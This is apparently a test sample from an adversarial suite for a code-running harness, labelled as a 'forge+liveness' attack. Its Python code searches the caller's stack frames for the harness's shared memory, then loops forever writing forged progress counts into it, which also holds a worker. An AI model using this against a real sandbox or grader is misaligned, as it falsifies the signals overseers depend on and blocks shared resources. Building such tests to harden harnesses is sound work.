# attack: header_that_counts | class: forge+liveness | expect: timeout,exit,error,ok | success-signal: a worker is held: the count of finished programs moves for ever
import ctypes, mmap, struct, sys


def find():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if type(value) is mmap.mmap:
                return value
        frame = frame.f_back


def task(img):
    memory = find()
    count = 0
    while True:
        count += 1
        if memory is not None:
            memory[0:16] = struct.pack("<IIQ", count & 0xFFFF, 0, 0)
